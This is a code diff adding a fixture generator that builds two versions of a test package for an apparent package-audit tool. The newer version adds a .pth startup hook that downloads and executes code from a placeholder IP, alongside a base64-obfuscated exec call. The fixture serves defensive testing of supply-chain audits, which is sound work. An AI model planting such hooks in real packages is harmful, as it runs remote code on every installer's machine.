@@ -190,5 +190,24 @@ def main():
         f.write("\n")
 
 
+def upgrade_fixtures():
+    """Two versions of one package for the pre-merge tests (tests/audit_e2e.rs): 1.1.0 keeps
+    1.0.0's (already reviewed) obfuscated call, moved to another line, and adds a .pth hook."""
+    out = os.path.join(ROOT, "..", "upgrade")
+    os.makedirs(out, exist_ok=True)
+    blob = base64.b64encode(b"print('hello from a reviewed payload')").decode()
+    old_mod = f"import base64\n\nexec(base64.b64decode('{blob}'))\n"
+    new_mod = "# 1.1.0: a comment moves the old call down\n" + old_mod
+    stage = "import urllib.request;exec(urllib.request.urlopen('http://192.0.2.20/x.py').read())"
+    for version, files in [
+        ("1.0.0", {"updpkg/__init__.py": old_mod}),
+        ("1.1.0", {"updpkg/__init__.py": new_mod, "updpkg_boot.pth": stage + "\n"}),
+    ]:
+        fname, data = wheel("updpkg", version, files, "Upgrade fixture")
+        with open(os.path.join(out, fname), "wb") as f:
+            f.write(data)
+
+
 if __name__ == "__main__":
     main()
+    upgrade_fixtures()
